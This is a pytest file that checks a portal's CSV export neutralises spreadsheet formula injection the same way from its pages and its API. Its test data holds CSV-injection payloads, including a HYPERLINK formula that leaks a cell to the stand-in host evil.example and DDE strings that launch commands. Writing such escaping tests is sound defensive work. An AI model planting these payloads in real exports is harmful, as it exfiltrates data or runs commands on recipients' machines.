"""One CSV writer for the pages and the API: a cell a spreadsheet would run as a formula comes out
neutralised, identically from both; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from portal.csv_export import csv_text
from portal.extensions import db
from portal.models import Practice
from tests.api.conftest import make_key

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cell(text: str, column: str, code: str) -> str:
    rows = list(csv.DictReader(io.StringIO(text)))
    return next(r[column] for r in rows if r.get("practice_code", r.get("code")) == code)


@pytest.mark.parametrize("name", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_formula_in_a_name_is_neutralised_alike_by_page_and_api(app, name):
    with app.app_context():
        db.session.add(Practice(code="A00001", name=name, town="Town", status="active"))
        db.session.commit()
    _, secret = make_key(app)
    client = app.test_client()
    page = client.get("/compare.csv?practices=A00001&metrics=list_size")
    api = client.get("/api/v1/practices?format=csv", headers={"Authorization": f"Bearer {secret}"})
    assert (page.status_code, api.status_code) == (200, 200)
    from_page = _cell(page.get_data(as_text=True), "practice_name", "A00001")
    from_api = _cell(api.get_data(as_text=True), "name", "A00001")
    assert from_page == from_api == "'" + name


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted():
    rows = [{"value": -3.5, "count": -2, "label": "-3.5", "empty": None, "plain": "Town"}]
    assert csv_text(rows, ["value", "count", "label", "empty", "plain", "missing"]) == (
        "value,count,label,empty,plain,missing\r\n-3.5,-2,'-3.5,,Town,\r\n"
    )


def test_a_line_break_inside_a_cell_never_starts_a_new_row():
    rows = [{"name": "Surgery\r=1+1", "town": "A\nB"}]
    text = csv_text(rows, ["name", "town"])
    assert list(csv.DictReader(io.StringIO(text, newline=""))) == rows


def test_a_saved_group_named_as_a_formula_downloads_as_text(app):
    """A user's own free text (a saved group's name) through the API's CSV download."""
    from portal.models import User
    from portal.queries.saved_groups import create_group

    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    user_id, secret = make_key(app)
    with app.app_context():
        group = create_group(db.session.get(User, user_id), name)
    response = app.test_client().get(
        "/api/v1/groups?format=csv", headers={"Authorization": f"Bearer {secret}"}
    )
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.get_data(as_text=True) == (
        f'id,name,practices\r\n{group.id},"\'=HYPERLINK(""http://evil.example/?leak=""&A1,'
        '""Click"")",0\r\n'
    )
